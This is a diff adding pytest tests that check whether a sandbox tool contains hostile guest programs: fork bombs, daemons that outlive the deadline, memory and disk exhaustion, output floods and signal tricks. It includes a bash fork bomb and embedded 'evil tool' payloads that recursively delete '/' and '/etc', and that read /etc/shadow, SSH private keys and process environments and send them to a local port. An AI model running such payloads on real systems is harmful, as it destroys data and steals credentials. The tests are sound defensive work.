@@ -1,0 +1,447 @@
+"""THREATS D: guests that eat the host or refuse to die. Right verdict, host unchanged, nothing left.
+
+Every attack first runs outside, bounded, to show that it does what it says.
+"""
+
+import os
+import re
+import shutil
+import signal
+import subprocess
+import threading
+import time
+
+import pytest
+
+import harness
+from harness import inside, outside, run_json
+
+LEVELS = ["kernel", "process"]
+both = pytest.mark.parametrize("level", LEVELS)
+pytestmark = pytest.mark.usefixtures("leftovers")
+
+NS = 1_000_000_000
+
+
+# -- 50 fork bombs ------------------------------------------------------------------------------------------------------
+
+@both
+@pytest.mark.parametrize("way", ["wait", "churn"])
+def test_fork_bomb(level, way):
+    assert "made 50" in outside("fork_bomb", way, 50).stdout
+    began = time.monotonic()
+    result = run_json("--processes", "40", "--wall", "20s", *inside(level, "fork_bomb", way))
+    assert result.verdict == "process_limit", result
+    assert "--processes" in result["message"]
+    assert time.monotonic() - began < 10
+    assert result["usage"]["processes_peak"] <= (40 if harness.IS_ROOT else 4000), "the watcher alone may lag"
+    assert any(d["kind"] == "limit" and d["grant"] == "--processes" for d in result["denials"])
+
+
+def test_shell_fork_bomb():
+    result = run_json("--processes", "64", "--wall", "20s", "--", "/bin/bash", "-c", ":(){ :|:& };:; wait")
+    assert result.verdict == "process_limit", result
+
+
+def test_host_can_fork_while_a_bomb_runs():
+    bomb = subprocess.Popen([harness.BELLJAR, "run", "--processes", "200", "--wall", "3s", *inside("kernel", "fork_bomb", "churn")],
+                            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    for _ in range(20):
+        assert subprocess.run(["/bin/true"]).returncode == 0
+    bomb.wait(timeout=20)
+
+
+# -- 51 to 54 outliving the run --------------------------------------------------------------------------------------------
+
+def heartbeats(path):
+    return [int(line) for line in path.read_text().split()]
+
+
+def outlive_arguments(level, way, path, word):
+    """The heartbeat goes through a writable mount, so that the host can read when the last process died."""
+    if level == "kernel":
+        return ["--rw", f"{path.parent}:/shared", *inside(level, "outlive", way, "/shared/" + path.name, word)]
+    return inside(level, "outlive", way, path, word)
+
+
+@both
+@pytest.mark.parametrize("way", ["plain", "sigterm", "daemon", "stopped", "many"])
+def test_deadline_kills_the_whole_tree(level, way, shared):
+    word, path = harness.token(), shared / "beats"
+    result = run_json("--wall", "300ms", *outlive_arguments(level, way, path, word))
+    survivors = harness.processes_with(word)
+    assert result.verdict == "timed_out", result
+    assert result.status == 124
+    assert "--wall" in result["message"]
+    assert not survivors, f"alive when belljar returned: {survivors}"
+    beats = heartbeats(path)
+    if way != "stopped":  # Those are silent by nature.
+        late = (max(beats) - min(beats)) / NS - 0.3
+        print(f"{level} {way}: the last process died {late * 1000:.1f} ms after the deadline")
+        assert -0.1 < late < 1, "the tree must be gone within 100 ms; this allows for a busy machine"
+    before = path.stat().st_size
+    time.sleep(0.1)
+    assert path.stat().st_size == before, "something still writes"
+
+
+def test_control_daemon_outlives_a_plain_kill(shared):
+    word, path = harness.token(), shared / "beats"
+    process = subprocess.Popen([harness.guest("outlive"), "daemon", str(path), word])
+    assert harness.wait_until(lambda: len(harness.processes_with(word)) >= 2 and path.stat().st_size > 200)
+    process.kill()
+    process.wait()
+    time.sleep(0.2)
+    survivors = harness.processes_with(word)
+    for pid in survivors:
+        os.kill(pid, signal.SIGKILL)
+        os.waitpid(pid, 0)
+    assert survivors, "outside a sandbox the daemon must survive, or the tests above show nothing"
+
+
+@both
+def test_daemon_ends_with_the_command(level, shared):
+    word, path = harness.token(), shared / "beats"
+    began = time.monotonic()
+    result = run_json("--wall", "20s", *outlive_arguments(level, "exit", path, word))
+    took = time.monotonic() - began
+    assert not harness.processes_with(word)
+    assert result.verdict == "exited" and result["exit_code"] == 7, result
+    assert "the command ends" in result["stdout"]
+    assert took < 5, "a background child that holds the output must not hold the run"
+
+
+@both
+def test_background_child_holds_stdout(level):
+    began = time.monotonic()
+    result = run_json("--level", level, "--wall", "20s", "--", "/bin/sh", "-c", "sleep 15 & echo done")
+    assert time.monotonic() - began < 5
+    assert result.verdict == "exited" and result["stdout"] == "done\n"
+
+
+def test_background_child_holds_stdout_when_streaming():
+    began = time.monotonic()
+    done = harness.belljar("--wall", "20s", "--", "/bin/sh", "-c", "sleep 15 & echo done")
+    assert time.monotonic() - began < 5
+    assert done.returncode == 0 and done.stdout == "done\n"
+
+
+# -- 55, 56 memory -------------------------------------------------------------------------------------------------------
+
+# Without a cgroup (not root, not delegated) a watcher looks every few milliseconds, which a fast guest overtakes.
+@both
+@pytest.mark.parametrize("where", ["anonymous", "children", "memfd"])
+def test_memory_bomb(level, where):
+    assert "used" in outside("memory", where, 100).stdout
+    result = run_json("--memory", "64M", "--wall", "30s", *inside(level, "memory", where, 3000))
+    assert result.verdict == "out_of_memory", result
+    assert result.status == 137
+    assert "--memory" in result["message"]
+    assert "used" not in result["stdout"]
+
+
+@pytest.mark.parametrize("where", ["shm", "tmp", "workdir", "sysv"])
+def test_memory_in_files_is_charged(where):
+    """Private filesystems and shared segments live in memory: larger than the limit, they must count against it."""
+    result = run_json("--memory", "64M", "--disk", "2G", "--tmp", "2G", "--wall", "30s", *inside("kernel", "memory", where, 1500))
+    assert result.verdict == "out_of_memory", result
+    assert "used" not in result["stdout"]
+
+
+def test_memory_is_free_again(shared):
+    def available():
+        return int(re.search(r"MemAvailable:\s+(\d+)", open("/proc/meminfo", encoding="utf-8").read())[1]) // 1024
+
+    before = available()
+    for where in ("tmp", "shm", "memfd", "sysv", "workdir"):
+        result = run_json("--memory", "600M", "--disk", "500M", "--tmp", "500M", *inside("kernel", "memory", where, 300))
+        assert result.verdict == "exited", result
+    assert harness.wait_until(lambda: available() > before - 600, 5), f"{before} MiB before, {available()} MiB after"
+
+
+def test_memory_below_the_limit_is_fine():
+    result = run_json("--memory", "256M", *inside("kernel", "memory", "anonymous", 150))
+    assert result.verdict == "exited" and "used 150" in result["stdout"], result
+    assert 150 << 20 <= result["usage"]["memory_peak_bytes"] <= 256 << 20 or not harness.IS_ROOT
+
+
+# -- 57 to 60 files ------------------------------------------------------------------------------------------------------
+
+@both
+def test_disk_fill(level, tmp_path):
+    host_before = shutil.disk_usage("/").used
+    result = run_json("--disk", "16M", "--memory", "512M", *inside(level, "memory", "workdir", 300))
+    assert result.verdict == "disk_limit", result
+    assert "--disk" in result["message"]
+    assert shutil.disk_usage("/").used - host_before < 200 << 20
+
+
+def test_tmp_fill():
+    result = run_json("--tmp", "8M", "--memory", "512M", *inside("kernel", "memory", "tmp", 300))
+    assert result.verdict == "disk_limit", result
+    assert "errno 28" in result["stdout"], "inside it looks like a full disk"
+    assert "--tmp" in result["message"]
+
+
+def test_full_disk_that_the_command_survives_is_no_verdict():
+    result = run_json("--disk", "4M", "--", "/bin/sh", "-c", "head -c 20M /dev/zero > big 2>/dev/null; rm big; echo still here")
+    assert result.verdict == "exited" and result["exit_code"] == 0, result
+    assert result["stdout"] == "still here\n"
+
+
+@both
+def test_inode_fill(level):
+    result = run_json("--files", "500", *inside(level, "disk", "files", 5000))
+    assert result.verdict == "disk_limit", result
+    assert "--files" in result["message"]
+    assert re.search(r"done 4\d\d of", result["stdout"]) or level == "process", result["stdout"]
+
+
+@both
+def test_sparse_terabyte(level):
+    """It may be made (it takes no room) or be refused, but it must not be copied, counted as used, or left behind."""
+    result = run_json("--wall", "20s", *inside(level, "disk", "sparse", 1 << 40))
+    assert result.verdict in ("exited", "file_size", "disk_limit"), result
+    assert result["usage"]["disk_bytes"] < 1 << 30
+    assert result["duration_ms"] < 10_000
+
+
+def test_deep_tree():
+    result = run_json("--files", "20000", "--wall", "30s", *inside("kernel", "disk", "deep", 10000))
+    assert result.verdict == "exited" and "done 10000" in result["stdout"], result
+
+
+def test_deep_tree_is_removed_at_level_process():
+    result = run_json("--level", "process", "--files", "20000", "--wall", "30s", "--", harness.guest("disk"), "deep", "10000")
+    assert result.verdict == "exited" and "done 10000" in result["stdout"], result
+
+
+# -- 61 kernel objects ---------------------------------------------------------------------------------------------------
+
+@both
+@pytest.mark.parametrize("what", ["fds", "pipes", "inotify", "epoll", "eventfd", "sockets", "timers"])
+def test_exhaustion_stays_inside(level, what):
+    result = run_json("--open-files", "100", "--memory", "512M", "--wall", "30s", *inside(level, "exhaust", what))
+    assert result.verdict in ("exited", "out_of_memory"), result
+    match = re.match(r"got (\d+) errno", result["stdout"])
+    if result.verdict == "exited" and what != "timers":
+        assert int(match[1]) <= 100, "limits.open_files = 100 did not hold"
+    # The host, and another sandbox of the same user, still get theirs.
+    assert outside("exhaust", what).stdout.startswith("got ")
+    read_end, write_end = os.pipe()
+    os.close(read_end)
+    os.close(write_end)
+    after = run_json(*inside(level, "exhaust", what))
+    assert after.verdict in ("exited", "out_of_memory") and not after["stdout"].startswith("got 0 "), after
+
+
+# -- 62 CPU time ---------------------------------------------------------------------------------------------------------
+
+@both
+@pytest.mark.parametrize("way", [["1"], ["8"], ["1", "fork"]], ids=["one", "threads", "children"])
+def test_cpu_time(level, way):
+    result = run_json("--cpu-time", "400ms", "--wall", "20s", *inside(level, "spin", *way))
+    assert result.verdict == "cpu_time", result
+    assert result.status == 124
+    assert "--cpu-time" in result["message"]
+    used = result["usage"]["cpu_ms"]
+    print(f"{level} {way}: used {used} ms of 400")
+    assert 380 <= used < 1400
+
+
+def test_sleep_uses_no_cpu_time():
+    result = run_json("--cpu-time", "300ms", "--", "/bin/sleep", "0.6")
+    assert result.verdict == "exited" and result["exit_code"] == 0, result
+
+
+# -- 63 zombies, 64 floods, 65 stdin, 66 core dumps, 67 signals ------------------------------------------------------------
+
+@both
+def test_zombies_are_reaped(level):
+    result = run_json("--processes", "20", *inside(level, "zombies", 200))
+    assert result.verdict == "exited" and result["exit_code"] == 0, result
+    seen = int(re.match(r"seen (\d+)", result["stdout"])[1])
+    if level == "kernel":
+        assert seen <= 3, "init, the guest, and nobody else"
+
+
+@both
+@pytest.mark.parametrize("kind", ["text", "ansi", "binary", "lines", "both"])
+def test_endless_flood_ends_at_the_deadline(level, kind):
+    result = run_json("--wall", "500ms", "--output", "16K", *inside(level, "flood", kind, 0))
+    assert result.verdict == "timed_out", result
+    assert result["stdout_bytes"] > 1 << 20
+    assert result["stdout_bytes"] == result["stdout_dropped"] + 16384
+    assert result["duration_ms"] < 2000
+
+
+@both
+def test_streamed_flood_ends_at_the_limit(level):
+    done = harness.belljar("--output", "1M", "--wall", "20s", *inside(level, "flood", "text", 0))
+    assert len(done.stdout) <= (1 << 20)
+    assert "output_limit" in done.stderr and "--output" in done.stderr
+    assert done.returncode == 137
+
+
+@both
+def test_stdin_that_is_never_read(level):
+    began = time.monotonic()
+    result = run_json("--level", level, "--wall", "20s", "--", "/bin/true", input="x" * (8 << 20))
+    assert result.verdict == "exited" and result["exit_code"] == 0, result
+    result = run_json("--level", level, "--wall", "500ms", "--", "/bin/sleep", "10", input="x" * (8 << 20))
+    assert result.verdict == "timed_out", result
+    assert time.monotonic() - began < 5
+
+
+@both
+@pytest.mark.parametrize("way", ["fault", "abort"])
+def test_no_core_dumps(level, way, shared):
+    expected = {"fault": signal.SIGSEGV, "abort": signal.SIGABRT}[way]
+    assert outside("crash", way, cwd=shared).returncode == -expected
+    arguments = inside(level, "crash", way)
+    if level == "kernel":
+        arguments = ["--rw", f"{shared}:/workspace", "--workdir", "/workspace", *arguments]
+    else:
+        arguments = ["--workdir", str(shared), *arguments]
+    for path in shared.iterdir():
+        path.unlink()
+    result = run_json(*arguments)
+    assert result.verdict == "signaled" and result["signal"] == expected, result
+    assert result.status == 128 + expected
+    assert list(shared.iterdir()) == [], "no core file"
+    limit = run_json("--level", level, "--", "/bin/sh", "-c", "ulimit -Hc")
+    assert limit["stdout"].strip() == "0"
+
+
+@pytest.mark.parametrize("target", ["own", "host"])
+def test_signals_by_setown_stay_inside(target):
+    """F_SETOWN asks the kernel to send SIGIO to any process; a host pid must not be one."""
+    got = []
+    before = signal.signal(signal.SIGIO, lambda *_: got.append(1))
+    try:
+        code = f"""
+import fcntl, os, socket, signal
+signal.signal(signal.SIGIO, signal.SIG_IGN)
+a, b = socket.socketpair()
+try:
+    fcntl.fcntl(a, fcntl.F_SETOWN, {os.getpid() if target == 'host' else 'os.getpid()'})
+    fcntl.fcntl(a, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
+    b.send(b'x')
+    print('sent')
+except OSError as e:
+    print('refused', e.errno)
+"""
+        subprocess.run([harness.PYTHON, "-c", code], check=True, capture_output=True)
+        if target == "host":
+            assert harness.wait_until(lambda: got, 2), "the control must be signalled"
+        got.clear()
+        result = run_json("--", harness.PYTHON, "-c", code)
+        time.sleep(0.1)
+        assert not got, "a guest signalled a process of the host"
+        assert result["stdout"].strip() == ("sent" if target == "own" else "refused 3"), result
+    finally:
+        signal.signal(signal.SIGIO, before)
+
+
+# -- 68 exactly one verdict ------------------------------------------------------------------------------------------------
+
+@both
+def test_exit_racing_the_deadline(level):
+    seen = set()
+    for i in range(40 if harness.LONG else 12):
+        result = run_json("--level", level, "--wall", "100ms", "--", "/bin/sleep", f"0.{90 + i % 4 * 3:03d}")
+        seen.add(result.verdict)
+        if result.verdict == "exited":
+            assert result["exit_code"] == 0 and result["signal"] is None and result.status == 0, result
+        else:
+            assert result.verdict == "timed_out" and result["exit_code"] is None and result.status == 124, result
+    print(seen)
+
+
+@both
+def test_several_limits_at_once(level):
+    """Deadline, CPU time, memory and output race: one of them is the verdict, never a plain signal."""
+    for i in range(6):
+        result = run_json("--level", level, "--wall", f"{100 + i * 20}ms", "--cpu-time", "100ms", "--memory", "64M", "--",
+                          "/bin/bash", "-c", "a=x; while :; do a=$a$a; done & while :; do echo $RANDOM; done")
+        assert result.verdict in ("timed_out", "cpu_time", "out_of_memory"), result
+        assert result["exit_code"] is None
+
+
+# -- the three evil tools ---------------------------------------------------------------------------------------------------
+
+EVIL = {
+    "deletes everything": ("import shutil, os\n"
+                           "for top in ('/', '/usr', '/home', '/root', '/etc', '{canary}'):\n"
+                           "    shutil.rmtree(top, ignore_errors=True)\n", {"exited"}),
+    "steals secrets": ("import os, glob, socket\n"
+                       "loot = []\n"
+                       "for path in ['{canary}/secret', '/etc/shadow', '/root/.ssh/id_rsa', '/proc/1/environ'] + "
+                       "glob.glob('/home/*/.ssh/*') + glob.glob('/proc/*/environ'):\n"
+                       "    try:\n"
+                       "        data = open(path, 'rb').read()\n"
+                       "        if b'SECRET' in data: loot.append(path)\n"
+                       "    except OSError: pass\n"
+                       "if 'SECRET' in str(os.environ): loot.append('environ')\n"
+                       "try: socket.create_connection(('127.0.0.1', {port}), 1).send(b'loot'); loot.append('sent')\n"
+                       "except OSError: pass\n"
+                       "print('loot', loot)\n", {"exited"}),
+    "never ends": ("import os, signal, time, threading\n"
+                   "for s in range(1, 65):\n"
+                   "    try: signal.signal(s, signal.SIG_IGN)\n"
+                   "    except (OSError, ValueError): pass\n"
+                   "for i in range(5):\n"
+                   "    if os.fork() == 0:\n"
+                   "        os.setsid()\n"
+                   "        if os.fork(): os._exit(0)\n"
+                   "        while True: time.sleep(0.01)\n"
+                   "while True: pass\n", {"timed_out", "cpu_time"}),
+}
+
+
+@pytest.mark.parametrize("tool", EVIL)
+def test_evil_tool(tool, shared, monkeypatch):
+    import socket
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen()
+    listener.settimeout(0.2)
+    canary = shared / "canary"
+    canary.mkdir(mode=0o777)
+    (canary / "secret").write_text("SECRET")
+    monkeypatch.setenv("API_KEY", "SECRET-KEY")
+    code, verdicts = EVIL[tool]
+    code = code.replace("{canary}", str(canary)).replace("{port}", str(listener.getsockname()[1]))
+    if tool == "steals secrets":  # The control; the others would harm the host.
+        stolen = subprocess.run([harness.PYTHON, "-c", code], capture_output=True, text=True).stdout
+        assert "secret" in stolen and "environ" in stolen and "sent" in stolen, stolen
+        listener.accept()[0].close()
+    word = harness.token()
+    result = run_json("--profile", "tool", "--wall", "1s", "--", harness.PYTHON, "-c", code, word)
+    assert result.verdict in verdicts, result
+    assert not harness.processes_with(word)
+    assert (canary / "secret").read_text() == "SECRET"
+    assert os.path.exists("/bin/sh") and os.path.isdir("/etc")
+    if tool == "steals secrets":
+        assert result["stdout"] == "loot []\n", result
+        with pytest.raises(TimeoutError):
+            listener.accept()
+    listener.close()
+
+
+# -- several at once ---------------------------------------------------------------------------------------------------------
+
+def test_one_sandbox_does_not_hurt_another():
+    """Limits are per sandbox, not per user: a bomb in one leaves its neighbour alone."""
+    verdicts = []
+
+    def bomb():
+        verdicts.append(run_json("--processes", "60", "--memory", "64M", *inside("kernel", "fork_bomb", "wait")).verdict)
+
+    threads = [threading.Thread(target=bomb) for _ in range(3)]
+    for thread in threads:
+        thread.start()
+    neighbour = run_json("--processes", "60", "--", "/bin/sh", "-c", "for i in 1 2 3 4 5 6 7 8; do /bin/true & done; wait; echo ok")
+    for thread in threads:
+        thread.join()
+    assert neighbour.verdict == "exited" and neighbour["stdout"] == "ok\n", neighbour
+    assert verdicts == ["process_limit"] * 3
